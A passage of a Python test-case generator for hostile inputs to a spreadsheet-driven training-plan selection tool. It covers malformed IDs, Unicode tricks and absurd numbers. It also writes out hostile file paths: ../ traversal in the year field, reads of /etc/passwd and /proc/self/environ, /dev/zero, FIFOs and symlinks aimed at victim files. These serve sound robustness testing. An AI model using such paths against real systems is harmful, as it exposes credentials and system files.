         also_acceptable="decided with BOTH rows set aside (named, rows 8 and 9: same 计划ID, different unit and budget) so P2399301 takes part in nothing until the platform data are fixed",
         must=["never a single application P2399301 silently built from one of the two rows", "overrides/reviews for P2399301 can never attach to the wrong row", NO_TRACE],
         why="one platform ID on two different rows (different unit, 10 vs 50 万元): the 申报编号 P+ID is supposed to be stable and unique — every decision file keyed on it becomes ambiguous")

    rows = plan_rows()
    r = plan(2399401, BJ, "先进制造技术研修班")
    vals = typed(r)
    rows.append([("n", "2399401")] + vals[1:])
    rows.append(["2399401"] + vals[1:])
    rows.append([" 2399401.0 "] + vals[1:])
    build_xlsx("identity/same_id_number_vs_text.xlsx", [("培训计划", sheet_xml(rows))])
    case(case="same_id_number_vs_text", file="identity/same_id_number_vs_text.xlsx", command=SEL, expect="decided",
         decision="one application P2399401 (never 'P2399401.0' or 'P 2399401'); rows 9 and 10 set aside / flagged as duplicates of row 8",
         must=["at most one application derived from these three rows is selected", "no 申报编号 contains '.0' or spaces", NO_TRACE],
         why="the same 计划ID as an Excel number, as text, and as ' 2399401.0 ': number formatting decides whether they collapse to one ID or become three applications")

    plans_csv("identity/dup_across_files/全院导出.csv")
    plans_csv("identity/dup_across_files/units/中国科学院北京分院.csv", [BASE_PLANS[3]], base=False)
    case(case="dup_across_files", file="identity/dup_across_files",
         command="select {file} --roster base/roster.csv --history base/history.csv --json", expect="decided",
         decision="P2399004 (中国科学院北京分院) is ONE application although it is in both files; the second occurrence reported as a duplicate (file and row named)",
         must=["P2399004 at most once in the selection, its budget counted once", NO_TRACE],
         why="the unit's own file and the all-CAS export both contain the branch's plan (the guide invites 'one file per unit' plus summaries): a folder read must not double-count")

    # roster tricks
    ro = [list(r) for r in ROSTER]
    ro[0][3] = "化学所；中国科学院物理研究所"
    write_text("identity/roster_alias_collision.csv", csv_text(ROSTER_COLS, ro))
    case(case="roster_alias_collision", file="identity/roster_alias_collision.csv",
         command="select base/plans.csv --roster {file} --history base/history.csv --json", expect="refused",
         must=["the message names both roster rows (an alias equal to another unit's name)",
               "P2399002 (物理所) is never treated as 化学所 (and so never U2-excluded because of 化学所's 30 %)"],
         why="化学所's alias list contains 「中国科学院物理研究所」, the name of another roster unit: whichever lookup wins, one institute inherits the other's history (U2) and quota (U1)")
    ro = [list(r) for r in ROSTER]
    ro[6][3] = "上海有机所；化学所"
    write_text("identity/roster_alias_shared.csv", csv_text(ROSTER_COLS, ro))
    case(case="roster_alias_shared", file="identity/roster_alias_shared.csv",
         command="select identity/alias_known.csv --roster {file} --history base/history.csv --json", expect="refused",
         must=["the message names alias 化学所 claimed by two units", "P2399101 (written 「化学所」) never funded as 中国科学院上海有机化学研究所"],
         why="two roster units claim the alias 化学所; resolving it to 上海有机所 would let 化学所's application escape U2")
    ro = [list(r) for r in ROSTER]
    ro[0][0] = HX + "\u200b"
    write_text("identity/roster_zero_width.csv", csv_text(ROSTER_COLS, ro))
    case(case="roster_zero_width_name", file="identity/roster_zero_width.csv",
         command="select base/plans.csv --roster {file} --history base/history.csv --json", expect="decided",
         decision="the roster's 「中国科学院化学研究所\\u200b」 is the same unit as the clean name in plans and history: P2399001 not selected (U2-LOW-RATE)",
         must=["P2399001 not selected", NO_TRACE],
         also_acceptable="refused, naming roster row 2 and the invisible character",
         why="the invisible character is in the roster itself: the plans and history are clean, the unit must not become 'not in the roster' and lose its type")

    # history tricks
    def hcase(name, rows_, why, plans="base/plans.csv", **kw):
        write_text(f"identity/{name}.csv", csv_text(HIST_COLS, rows_))
        case(case=name, file=f"identity/{name}.csv",
             command=f"select {plans} --roster base/roster.csv --history {{file}} --json", expect="decided", why=why, **kw)

    H = [list(h) for h in HISTORY]
    h = [list(x) for x in H]; h[0][0] = "化学所"
    hcase("history_alias_spelling", h, decision="P2399001 not selected (U2-LOW-RATE): the 2022 row under the roster alias 化学所 is 中国科学院化学研究所's",
          must=["P2399001 not selected", NO_TRACE], why="the history sheet writes the unit by its alias; the U2 lookup must go through the roster like the plans do")
    h = [list(x) for x in H]; h[0][0] = HX + "\u200b"
    hcase("history_zero_width_spelling", h, decision="P2399001 not selected (U2-LOW-RATE)",
          must=["P2399001 not selected (or the run refuses the history file naming row 2)", NO_TRACE],
          why="化学所's only 2022 row carries a ZERO WIDTH SPACE: an exact-match lookup finds no 2022 project for 化学所, so U2 'does not apply' and the unit is funded")
    h = [list(x) for x in H]; h[0][0] = "中國科學院化學研究所"
    hcase("history_traditional_spelling", h, decision="P2399001 not selected (U2-LOW-RATE)",
          must=["P2399001 not selected, or the history row is reported as an unknown unit AND 化学所 is not treated as having a clean record", NO_TRACE],
          why="the history row in traditional characters")
    h = [list(x) for x in H if x[0] != HX] + [hist(HX, "高分子材料表征技术研修班", 10, 1), hist("化学所", "电化学储能技术研修班", 10, 5)]
    hcase("history_split_rate", h, plans="identity/alias_known.csv",
          decision="the application written 「化学所」 (P2399101) and P2399001 are both not selected: 化学所's 2022 projects are 1 + 5 of 10 + 10 万元 = 30 %",
          must=["P2399001 and P2399101 not selected", NO_TRACE],
          why="化学所's 2022 money split across two spellings (canonical 10 %, alias 50 %): a per-spelling lookup gives the alias-spelled application a clean 50 % and funds it")
    h = [list(x) for x in H] + [hist(HX, "零资助的研修班", 0, 0), hist(HX, "支出未知的研修班", 10, "NaN")]
    hcase("history_zero_and_nan_rate", h,
          decision="P2399001 not selected (U2-LOW-RATE on the usable 20/6 = 30 %); the 0/0 row and the row with 已支出「NaN」 reported, not silently dropped",
          must=["P2399001 not selected", "no execution rate printed as nan, inf or -0", NO_TRACE],
          also_acceptable="refused (exit 2) naming the history rows with 资助金额 0 and 已支出 NaN",
          why="0/0 is NaN and `NaN < 0.5` is False; a NaN 已支出 poisons a sum: either way 化学所 could pass U2")


# --------------------------------------------------------------------------------------
# 5. absurd values
# --------------------------------------------------------------------------------------

def gen_absurd():
    def acase(name, rows_, decision, must, why, command=SEL, **kw):
        rel = plans_csv(f"absurd/{name}.csv", rows_)
        case(case=name, file=rel, command=command, expect="decided", decision=decision, must=must + [NO_TRACE], why=why, **kw)

    acase("year_2099", [plan(2399501, YJ, "未来科技研修班", **{"培训年度": "2099", "培训开始时间": "2099-05-04", "培训结束时间": "2099-05-08"})],
          "P2399501 is not selected for 2023: set aside (I-RANGE naming 培训年度 2099 / dates not in the plan year) or excluded with a message that it is not a 2023 plan",
          ["P2399501 not selected"], "a plan for 2099 with 2099 dates submitted in the 2023 round; nothing in the guide's required checks looks at the year")
    acase("dates_1900", [plan(2399502, YJ, "一九〇〇年研修班", **{"培训开始时间": "1900-01-01", "培训结束时间": "1900-01-05"})],
          "P2399502 set aside (I-RANGE/I-DATE naming 培训开始时间 1900-01-01) or at least not selected",
          ["P2399502 not selected"], "dates in 1900 — what an empty Excel date cell (serial 0/1) turns into; not a 2023 course")
    acase("span_two_years_days3", [plan(2399503, YJ, "跨两年三天研修班", **{"培训开始时间": "2023-03-01", "培训结束时间": "2025-03-01", "天数": "3"})],
          "P2399503 not silently accepted as a 3-day 2023 course: set aside naming 培训结束时间 (2025, outside the 2023 plan year; 731 days against 天数 3), or flagged so the analyst sees it before it is funded",
          ["P2399503 is not selected without a message that names the inconsistency"],
          "2023-03-01 → 2025-03-01 with 天数 3: the dates say two years, the days column says three days")
    acase("fee_zero_funded", [plan(2399504, YJ, "零经费申请资助研修班", **{"经费预算(万元)": "0"})],
          "P2399504 is not selected: an application for funding with a budget of 0 万元 is contradictory (set aside / not eligible with a message)",
          ["P2399504 not selected", "no 人均每日经费 of 0 earns it the maximum '经费节约' score"],
          "是否申请资助 = 是 with 经费 0: 经费节约 = 1 − 0 = maximum score, zero cost against the budget — a free ticket to the top of its category that displaces a real project")
    acase("fee_blank_funded", [plan(2399505, YJ, "经费空白研修班", **{"经费预算(万元)": ""})],
          "P2399505 not selected, with a message naming 经费预算(万元) as missing for an application for funding; the selection still solves (exit 0, status optimal)",
          ["exit 0 and 已求得最优方案 (a NaN cost must never reach the solver)", "P2399505 not selected"],
          "a funded application without a budget: NaN cost → NaN objective or constraint → solver error")
    acase("negative_zero", [plan(2399506, YJ, "负零经费研修班", **{"经费预算(万元)": "-0"}),
                            plan(2399507, SY, "负零天数研修班", **{"天数": "-0.0"}),
                            plan(2399508, WH, "负零人数研修班", **{"学员计划参加人数": "\u22120"})],
          "none of P2399506–P2399508 selected: -0 budget is a zero budget (as fee_zero_funded), -0.0 days fails the 3-day minimum (or I-RANGE), U+2212 '−0' trainees is 0 or I-NUMBER",
          ["P2399506, P2399507, P2399508 not selected", "no output shows '-0' or '-0.0' as a value (negative zero is printed as 0)"],
          "negative zero in three spellings (ASCII '-0', '-0.0', MINUS SIGN '−0'): -0.0 < 0 is False, -0.0 == 0 is True, and str(-0.0) is '-0.0'")
    acase("huge_1e308", [plan(2399511, YJ, "学员无穷研修班", **{"学员计划参加人数": "1e308"}),
                         plan(2399512, SY, "学时巨大研修班", **{"学时": "1E308"}),
                         plan(2399513, WH, "天数巨大研修班", **{"天数": "1e308"}),
                         plan(2399514, SH, "场次溢出研修班", **{"讲座场次": "1e309"}),
                         plan(2399515, SH, "排序巨大研修班", **{"资助推荐排序": "1e308"}),
                         plan(2399516, SH, "经费负巨大研修班", **{"经费预算(万元)": "-1e308"})],
          "all six rows set aside (I-RANGE, or I-INT for 资助推荐排序) naming the column and the value; the base rows unaffected",
          ["none of P2399511–P2399516 selected", "validate shows 搁置 6", "no inf/overflow in any printed number"],
          "1e308 (the largest double) in 人数, 学时, 天数, 排序; 1e309 (parses to inf) in 讲座场次; -1e308 in 经费: products like 人数×天数 overflow to inf",
          command="validate {file} --json")
    acase("nan_inf_text", [plan(2399521, YJ, "天数NaN研修班", **{"天数": "NaN"}),
                           plan(2399522, SY, "人数nan研修班", **{"学员计划参加人数": "nan"}),
                           plan(2399523, WH, "经费Infinity研修班", **{"经费预算(万元)": "Infinity"}),
                           plan(2399524, SH, "学时负无穷研修班", **{"学时": "-inf"}),
                           plan(2399525, SH, "工作人员inf研修班", **{"工作人员计划人数": "inf"}),
                           plan(2399526, SH, "单场学时∞学术讲坛", **{"单场学时": "∞"}),
                           plan(2399527, SH, "场次NaN场研修班", **{"讲座场次": "NaN场"}),
                           plan(2399528, SH, "排序nan研修班", **{"资助推荐排序": "nan"})],
          "all eight rows set aside (I-NUMBER or I-RANGE) naming the column and the original text; 读取 14，接收 6，搁置 8",
          ["validate shows 搁置 8", "a NaN 天数 never passes the 3-day minimum (NaN < 3 is False)"],
          "float() accepts 'NaN', 'nan', 'Infinity', '-inf', 'inf'; a parser built on float() lets them through, and NaN then passes every 'not less than' rule",
          command="validate {file} --json")
    acase("python_number_syntax", [plan(2399531, YJ, "下划线天数研修班", **{"天数": "1_0"}),
                                   plan(2399532, SY, "十六进制人数研修班", **{"学员计划参加人数": "0x64"}),
                                   plan(2399533, WH, "阿拉伯数字学时研修班", **{"学时": "\u0664\u0660"})],
          "'1_0' (P2399531) and '0x64' (P2399532) set aside as I-NUMBER — not read as 10 and 100; '٤٠' (Arabic-Indic 40, P2399533) either read as 40 or set aside, never any other number",
          ["P2399531 and P2399532 set aside"],
          "Python's float() accepts '1_0' (=10) and Unicode digits; int(x, 0) accepts '0x64': syntax no form-filler means", command="validate {file} --json")
    acase("int_digits_limit", [plan(2399541, YJ, "五千位排序研修班", **{"资助推荐排序": "9" * 5000}),
                               plan(2399542, SY, "五千位人数研修班", **{"学员计划参加人数": "1" + "0" * 5000})],
          "both rows set aside (I-RANGE / I-INT) naming the column; the message shows a shortened value",
          ["validate shows 搁置 2", "printed output under 20 KB"],
          "int() of more than 4,300 digits raises ValueError in Python ≥3.11 ('Exceeds the limit for integer string conversion') — a traceback unless the parser expects it",
          command="validate {file}")
    acase("year_weird", [plan(2399551, YJ, "年度小数研修班", **{"培训年度": "2023.5"}),
                         plan(2399552, SY, "年度负数研修班", **{"培训年度": "-2023"}),
                         plan(2399553, WH, "年度零研修班", **{"培训年度": "0"}),
                         plan(2399554, SH, "年度五位研修班", **{"培训年度": "20233"})],
          "all four set aside (I-INT / I-RANGE on 培训年度)", ["validate shows 搁置 4"],
          "培训年度 is an integer column (it also feeds the generated 申报编号 when 计划ID is missing)", command="validate {file}")
    acase("dates_weird", [plan(2399561, YJ, "公元零年研修班", **{"培训开始时间": "0000-01-01"}),
                          plan(2399562, SY, "九九九九年研修班", **{"培训结束时间": "9999-12-31"}),
                          plan(2399563, WH, "一万年研修班", **{"培训开始时间": "10000-01-01"}),
                          plan(2399564, SH, "闰秒研修班", **{"上报时间": "2022-11-14T23:59:60"})],
          "P2399561 and P2399563 set aside (I-DATE); P2399562 set aside or at least not selected (ends in 9999); P2399564 either accepted as 2022-11-14 (not late) or set aside (I-DATE) — never a crash",
          ["P2399561, P2399562, P2399563 not selected"],
          "year 0 and year 10000 do not exist in Python's datetime (ValueError/OverflowError); 9999-12-31 + 1 day overflows; 23:59:60 is a leap second")

    # xlsx numeric NaN/inf cells
    rows = plan_rows()
    for pid, col, raw in [(2399571, "天数", "NaN"), (2399572, "学员计划参加人数", "INF"), (2399573, "经费预算(万元)", "-INF"),
                          (2399574, "学时", "1e999")]:
        vals = typed(plan(pid, SH, f"数值单元格{raw}研修班"))
        vals[PLAN_COLS.index(col)] = ("n", raw)
        rows.append(vals)
    build_xlsx("absurd/xlsx_numeric_nan_inf.xlsx", [("培训计划", sheet_xml(rows))])
    case(case="xlsx_numeric_nan_inf", file="absurd/xlsx_numeric_nan_inf.xlsx", command="validate {file} --json",
         expect="decided",
         decision="读取 10，接收 6，搁置 4: the numeric cells <v>NaN</v> (天数, row 8), <v>INF</v> (人数, row 9), <v>-INF</v> (经费, row 10), <v>1e999</v> (学时, row 11, parses to inf) set aside (I-NUMBER/I-RANGE) naming cell and column",
         also_acceptable="refused (exit 2): one Chinese line naming the file (ideally the cell D8/J9/…) — openpyxl cannot load a sheet with <v>NaN</v> at all (it tries int('NaN'))",
         must=["never accepted: no NaN/inf 天数, 人数, 经费 or 学时 reaches eligibility", NO_TRACE],
         why="xsd:double allows NaN/INF/-INF, so a generator can write them into <v>; Excel never does. openpyxl raises ValueError on 'NaN' for the whole workbook, and accepts 1e999 as inf")

    # absurd date serials
    rows = plan_rows()
    for pid, s_ in [(2399581, 60), (2399582, 0), (2399583, -1), (2399584, 2958466), (2399585, 20230508)]:
        vals = typed(plan(pid, SH, f"日期序号{s_}研修班"))
        vals[PLAN_COLS.index("培训开始时间")] = ("d", s_)
        rows.append(vals)
    build_xlsx("absurd/xlsx_date_serials_absurd.xlsx", [("培训计划", sheet_xml(rows))])
    case(case="xlsx_date_serials_absurd", file="absurd/xlsx_date_serials_absurd.xlsx", command="validate {file} --json",
         expect="decided",
         decision="读取 11，接收 6，搁置 5: 培训开始时间 cells formatted as dates holding serial 60 (Excel's phantom 1900-02-29; openpyxl gives 1900-02-28), 0 (openpyxl gives a datetime.time, not a date), -1 (1899-12-29), 2958466 (10000-01-01; openpyxl gives the string '#VALUE!') and 20230508 (a yyyymmdd typed as a number) — rows 8–12 — set aside (I-DATE/I-RANGE) naming 培训开始时间",
         must=["validate shows 搁置 5", "no row accepted with a start date before 2022 or a time-of-day as its date", NO_TRACE],
         why="Excel's 1900 date system and its limits: a time object where a date is expected, an error string where a number was, dates in 1899/1900 for a 2023 course")


# --------------------------------------------------------------------------------------
# 6. run / record attacks
# --------------------------------------------------------------------------------------

def gen_run():
    R = "report --params base/params.yaml --out {tmp}/out"
    RUN_FILES = "report.html, report.pdf, 遴选名单.xlsx, manifest.json, selection.json, diff.json"

    def rcase(**kw):
        kw.setdefault("limits", LIM_REPORT_REFUSE if kw.get("expect") == "refused" else LIM_REPORT_OK)
        if kw.get("expect") == "refused":
            kw.setdefault("exit", [1, 2])
        case(**kw)

    rcase(case="out_dangling_symlink", file=None,
          setup=["rm -rf /tmp/casplan-hostile-dangling", "ln -s /tmp/casplan-hostile-dangling/reports {tmp}/out"],
          command=R, expect="refused", after=["test ! -e /tmp/casplan-hostile-dangling", "test -L {tmp}/out"],
          why="--out is a symlink to a directory that does not exist (and could be anywhere, e.g. /etc/cron.d): mkdir -p through it writes where nobody looked; Path.mkdir(exist_ok=True) on a dangling link raises FileExistsError. Refuse naming the path, create nothing at the target")
    rcase(case="out_readonly_dir", file=None, skip_if_root=True,
          setup=["mkdir -p {tmp}/ro", "chmod 555 {tmp}/ro"],
          command="report --params base/params.yaml --out {tmp}/ro", expect="refused", limits=LIM,
          after=['test -z "$(ls -A {tmp}/ro)"'],
          why="--out is a read-only directory: PermissionError must be a Chinese line naming it, found before the 30-second notebook run. (As root, mode bits do not stop writes: run as an unprivileged user, or use a read-only bind mount: mount --bind -o ro …)")
    rcase(case="out_is_a_file", file=None, setup=["printf keep > {tmp}/out.txt"],
          command="report --params base/params.yaml --out {tmp}/out.txt", expect="refused", limits=LIM,
          after=['test "$(cat {tmp}/out.txt)" = keep'], why="--out names an existing regular file: refuse (NotADirectoryError), leave it unchanged")
    rcase(case="latest_is_real_folder", file=None,
          setup=["mkdir -p {tmp}/out/2023/latest", "printf '<p>上次的报告</p>' > {tmp}/out/2023/latest/report.html"],
          command=R, expect="refused", limits=LIM_REPORT_OK,
          after=["test -d {tmp}/out/2023/latest -a ! -L {tmp}/out/2023/latest",
                 "test \"$(cat {tmp}/out/2023/latest/report.html)\" = '<p>上次的报告</p>'",
                 "test \"$(ls {tmp}/out/2023/latest)\" = report.html"],
          also_acceptable="exit 0 with the new run in its own folder, the real latest/ folder untouched and a clear line that latest could not be re-pointed — but then cron cannot tell; a non-zero exit is preferred",
          why="reports/2023/latest is a real directory (someone copied a report there): 'replace the link' code paths (os.replace, rmtree then symlink) either fail with IsADirectoryError or delete the user's folder. Never delete it; say what is wrong")
    rcase(case="latest_symlink_outside", file=None,
          setup=["rm -rf /tmp/casplan-hostile-victim", "mkdir -p /tmp/casplan-hostile-victim {tmp}/out/2023",
                 "printf keep > /tmp/casplan-hostile-victim/report.html",
                 "ln -s /tmp/casplan-hostile-victim {tmp}/out/2023/latest"],
          command=R, expect="decided",
          decision=f"a new run folder {{tmp}}/out/2023/<时间>/ with {RUN_FILES}; latest is now a symlink to that folder (inside {{tmp}}/out/2023)",
          must=["/tmp/casplan-hostile-victim/report.html still reads 'keep' and nothing new appeared in /tmp/casplan-hostile-victim",
                "the link itself was replaced, not written through", NO_TRACE],
          after=["test \"$(cat /tmp/casplan-hostile-victim/report.html)\" = keep", "test \"$(ls /tmp/casplan-hostile-victim)\" = report.html",
                 "readlink -f {tmp}/out/2023/latest | grep -q '^'$(readlink -f {tmp})'/out/2023/'"],
          why="latest points outside the reports folder: the update must replace the symlink atomically, never follow it")
    rcase(case="latest_manifest_garbage_if_changed", file=None,
          setup=["mkdir -p {tmp}/out/2023/20000101-000000", "printf '{not json' > {tmp}/out/2023/20000101-000000/manifest.json",
                 "ln -s 20000101-000000 {tmp}/out/2023/latest"],
          command=R + " --if-changed", expect="decided",
          decision="the unreadable manifest counts as 'changed': a new report is generated and latest re-pointed (exit 0)",
          also_acceptable="refused (exit 1) naming latest/manifest.json, latest unchanged",
          must=[NO_TRACE], why="--if-changed compares with latest/manifest.json; a truncated/corrupt manifest (disk full last time) must not crash the daily job")
    rcase(case="latest_manifest_dev_zero", file=None,
          setup=["mkdir -p {tmp}/out/2023/20000101-000000", "ln -s /dev/zero {tmp}/out/2023/20000101-000000/manifest.json",
                 "ln -s 20000101-000000 {tmp}/out/2023/latest"],
          command=R + " --if-changed", expect="decided", limits=LIM_REPORT_OK,
          decision="regenerated (or refused naming manifest.json) — in either case without reading /dev/zero to exhaustion: bounded read of a small JSON file",
          must=["peak memory under 2 GB", NO_TRACE], why="manifest.json is a symlink to /dev/zero: json.load(f) reads forever")
    rcase(case="latest_manifest_deep_json", file=None,
          setup=["mkdir -p {tmp}/out/2023/20000101-000000",
                 "python3 -c \"print('['*200000 + ']'*200000)\" > {tmp}/out/2023/20000101-000000/manifest.json",
                 "ln -s 20000101-000000 {tmp}/out/2023/latest"],
          command=R + " --if-changed", expect="decided",
          decision="regenerated (the manifest is not a valid manifest) or refused naming it; no RecursionError",
          must=[NO_TRACE], why="200,000 nested JSON arrays: json.loads raises RecursionError, which is not a ValueError/JSONDecodeError")
    rcase(case="report_interrupted", file=None,
          setup=["casplan report --params base/params.yaml --out {tmp}/out", "readlink {tmp}/out/2023/latest > {tmp}/before.txt"],
          command="timeout --preserve-status -s INT 8 casplan report --params base/params.yaml --out {tmp}/out",
          expect="refused", exit=130, limits=LIM,
          after=["test \"$(readlink {tmp}/out/2023/latest)\" = \"$(cat {tmp}/before.txt)\"",
                 "test $(ls {tmp}/out/2023 | grep -vc latest) -eq 1"],
          why="Ctrl-C (SIGINT) 8 s into a report: exit 130, latest still points to the earlier run, and the half-made run folder is removed (the guide's promise)")
    rcase(case="report_concurrent_same_second", file=None,
          command="sh -c 'casplan report --params base/params.yaml --out {tmp}/out & casplan report --params base/params.yaml --out {tmp}/out; r=$?; wait $!; exit $((r | $?))'",
          expect="decided",
          decision=f"both runs end cleanly: either both exit 0 in two different run folders, or one refuses (another run in progress) with one Chinese line; latest points to a complete folder ({RUN_FILES})",
          must=["no run folder contains files from both runs or lacks any of the six files", "manifest.json in latest is valid JSON and matches its folder's files", NO_TRACE],
          why="cron and an analyst start a report at the same moment: folder names are <日期-时间> to the second, so both runs pick the same folder; temp-file names and the latest switch race")
    rcase(case="params_year_traversal", file=write_text("run/params_year_traversal.yaml",
                                                          "year: \"../../../../../../../../tmp/casplan-hostile-escape\"\nplans: ../base/plans.csv\n"
                                                          "history: ../base/history.csv\nroster: ../base/roster.csv\nrobustness_draws: 0\n"),
          setup=["rm -rf /tmp/casplan-hostile-escape"], command="report --params {file} --out {tmp}/out", expect="refused",
          after=["test ! -e /tmp/casplan-hostile-escape"],
          why="the year becomes a path component (reports/<年度>/…): year '../../…/tmp/casplan-hostile-escape' writes the run and its latest link outside --out. year must be a 4-digit integer")
    rcase(case="cli_year_traversal", file=None, setup=["rm -rf /tmp/casplan-hostile-escape2"],
          command="report --params base/params.yaml --year ../../../../../../../../tmp/casplan-hostile-escape2 --out {tmp}/out",
          expect="refused", exit=2, limits=LIM, after=["test ! -e /tmp/casplan-hostile-escape2"],
          why="the same through --year; argparse's own English 'invalid int value' is acceptable only if it is at least not a traceback — a Chinese line is better")
    rcase(case="params_plans_traversal_passwd", file=write_text("run/params_plans_passwd.yaml",
                                                                 "year: 2023\nplans: ../../../../../../../../../etc/passwd\nhistory: ../base/history.csv\n"
                                                                 "roster: ../base/roster.csv\nrobustness_draws: 0\n"),
          command="report --params {file} --out {tmp}/out", expect="refused",
          must=["no output (stdout, stderr, files under {tmp}) contains 'root:' or any other line of /etc/passwd"],
          why="plans resolves to /etc/passwd (relative paths are from the params file): it is not a spreadsheet; the refusal must not quote its content")
    rcase(case="params_policy_proc_environ", file=write_text("run/params_policy_environ.yaml",
                                                              "year: 2023\nplans: ../base/plans.csv\nhistory: ../base/history.csv\nroster: ../base/roster.csv\n"
                                                              "policy: /proc/self/environ\nrobustness_draws: 0\n"),
          command="report --params {file} --out {tmp}/out", expect="refused", env={"CASPLAN_HOSTILE_SECRET": "s3cr3t-value-7731"},
          must=["no output contains 's3cr3t-value-7731' (YAML error messages quote the offending line — here, the environment)"],
          why="policy: /proc/self/environ is NUL-separated KEY=value text; a YAML parse error message with context would print the process environment (tokens, passwords) to the cron log")
    rcase(case="params_plans_dev_zero", file=write_text("run/params_plans_dev_zero.yaml",
                                                         "year: 2023\nplans: /dev/zero\nhistory: ../base/history.csv\nroster: ../base/roster.csv\nrobustness_draws: 0\n"),
          command="report --params {file} --out {tmp}/out", expect="refused", limits=LIM,
          why="plans: /dev/zero — an endless character device; refuse as not a regular file before reading")
    rcase(case="params_plans_same_file_twice", file=write_text("run/params_plans_twice.yaml",
                                                                "year: 2023\nplans: [../base/plans.csv, ../base/./plans.csv]\nhistory: ../base/history.csv\n"
                                                                "roster: ../base/roster.csv\nrobustness_draws: 0\n"),
          command="report --params {file} --out {tmp}/out", expect="decided",
          decision="the same file given twice is read once (or the run refuses, naming it): 6 applications, the same selection as control_base_report",
          must=["selection.json identical to the base run's (no application twice, no duplicate IDs)", NO_TRACE],
          why="two spellings of one path in the plans list: rows and applications doubled, every ID twice")

    for dev in ["/dev/zero", "/dev/urandom"]:
        nm = dev.split("/")[-1]
        rcase(case=f"device_validate_{nm}", file=None, command=f"validate {dev}", expect="refused", exit=2, limits=LIM,
              why=f"{dev} as the export: a character device that never ends; refuse as not a regular file")
    for nm, cmd in [("policy", "policy check /dev/zero"),
                    ("roster", "validate base/plans.csv --roster /dev/zero"),
                    ("history", "check base/plans.csv --roster base/roster.csv --history /dev/zero"),
                    ("overrides", "check base/plans.csv --roster base/roster.csv --history base/history.csv --overrides /dev/zero"),
                    ("reviews", "select base/plans.csv --roster base/roster.csv --history base/history.csv --reviews /dev/zero"),
                    ("params", "report --params /dev/zero --out {tmp}/out"),
                    ("scenario", "report --params base/params.yaml --scenario /dev/zero --out {tmp}/out"),
                    ("directions", 'match "碳中和" --policy-directions /dev/zero')]:
        rcase(case=f"device_{nm}_dev_zero", file=None, command=cmd, expect="refused",
              exit=[1, 2] if cmd.startswith("report") else 2, limits=LIM,
              why=f"/dev/zero given as the {nm} file: every reader must check for a regular file (or cap its read) instead of reading to exhaustion")

    rcase(case="plans_folder_with_fifo", file=None,
          setup=["mkdir -p {tmp}/plans", "cp base/plans.csv {tmp}/plans/", "mkfifo {tmp}/plans/zz.csv"],
          command="validate {tmp}/plans", expect="refused", exit=2, limits=LIM,
          also_acceptable="decided: zz.csv skipped with a note (not a regular file), 读取 6 from plans.csv",
          why="a named pipe with a .csv name in the exports folder: open() blocks forever waiting for a writer — the 07:30 job hangs")
    rcase(case="plans_folder_symlink_loop", file=None,
          setup=["mkdir -p {tmp}/plans", "cp base/plans.csv {tmp}/plans/", "ln -s . {tmp}/plans/loop", "ln -s .. {tmp}/plans/up"],
          command="validate {tmp}/plans --roster base/roster.csv", expect="decided", limits=LIM,
          decision="读取文件 1 个: plans.csv read once (读取 6，接收 6); the looping links are not followed (or followed once with the real file deduplicated)",
          also_acceptable="refused naming the symlink loop",
          must=["never 'file name too long' / ELOOP tracebacks, never the same rows counted twice", NO_TRACE],
          why="'loop' → the folder itself, 'up' → its parent: a recursive walk that follows directory links never ends or reads plans.csv through endless paths")
    rcase(case="plans_same_file_twice_cli", file=None, command="validate base/plans.csv base/./plans.csv --roster base/roster.csv",
          expect="decided", limits=LIM, decision="read once: 读取 6，接收 6 (or refused naming the repeated file)",
          must=["never 读取 12", NO_TRACE], why="the same file twice on the command line")
    rcase(case="plans_symlink_copy_cli", file=None, setup=["ln -s \"$PWD/base/plans.csv\" {tmp}/copy.csv"],
          command="validate base/plans.csv {tmp}/copy.csv --roster base/roster.csv", expect="decided", limits=LIM,
          decision="the symlinked copy is the same file: read once (or refused); never six applications twice",
          must=["never 读取 12 with P2399001 … P2399006 each twice", NO_TRACE], why="a symlink to the same export under another name")
    rcase(case="validate_out_overwrites_input", file=None, setup=["cp base/plans.csv {tmp}/plans.csv"],
          command="validate {tmp}/plans.csv --out {tmp}/plans.csv", expect="refused", exit=2, limits=LIM,
          after=["cmp {tmp}/plans.csv base/plans.csv"],
          why="--out is the input file itself: the guide promises inputs are never written; the cleaned table (application ID first, source columns last) would replace the original export")
    rcase(case="validate_out_symlink_to_victim", file=None,
          setup=["printf keep > {tmp}/victim.txt", "ln -s {tmp}/victim.txt {tmp}/清洗后.csv"],
          command="validate base/plans.csv --out {tmp}/清洗后.csv", expect="decided", limits=LIM,
          decision="exit 0: 清洗后.csv is now a regular file holding the cleaned rows (the atomic rename replaced the link)",
          also_acceptable="refused (exit 2) because the target is a symlink",
          after=["test \"$(cat {tmp}/victim.txt)\" = keep"],
          must=["victim.txt unchanged", NO_TRACE], why="the --out path is a symlink to someone else's file: write-then-rename must replace the link, not write through it")
    rcase(case="report_out_inside_plans_folder", file=None,
          setup=["mkdir -p {tmp}/plans", "cp base/plans.csv {tmp}/plans/"],
          command="sh -c 'for i in 1 2; do casplan report --plans {tmp}/plans --history base/history.csv --roster base/roster.csv --robustness-draws 0 --out {tmp}/plans || exit $?; done'",
          expect="refused",
          also_acceptable="decided: both runs exit 0 and the second run read only plans.csv (its manifest lists one plans file; selection.json identical to the first run's)",
          must=["the second run never reads 遴选名单.xlsx, the cleaned tables or report.ipynb of the first run as plan exports"],
          why="--out inside the exports folder: the next run finds the first run's 遴选名单.xlsx (which has 培训名称/单位名称/类别 columns) and reads it as plans — applications doubled")


# --------------------------------------------------------------------------------------
# EXPECTED.yaml and README.md
# --------------------------------------------------------------------------------------

KEY_ORDER = ["case", "file", "big", "setup", "env", "command", "expect", "exit", "limits", "skip_if_root", "decision",
             "should", "must", "also_acceptable", "after", "why"]


def ystr(s: str) -> str:
    s = json.dumps(s, ensure_ascii=False)
    out_ = []
    for ch in s:
        cat = unicodedata.category(ch)
        if (cat in ("Cc", "Cf", "Co", "Cs") or (cat == "Zs" and ch != " ")) and ch not in "\n":
            out_.append("\\u%04x" % ord(ch) if ord(ch) < 0x10000 else "\\U%08x" % ord(ch))
        else:
            out_.append(ch)
    return "".join(out_)


def yval(v, indent):
    pad = " " * indent
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if v is None:
        return "null"
    if isinstance(v, str):
        return ystr(v)
    if isinstance(v, dict):
        return "{" + ", ".join(f"{k}: {yval(x, 0)}" for k, x in v.items()) + "}"
    if isinstance(v, list):
        if all(isinstance(x, int) for x in v):
            return "[" + ", ".join(map(str, v)) + "]"
        return "\n" + "\n".join(f"{pad}  - {yval(x, indent + 4)}" for x in v)
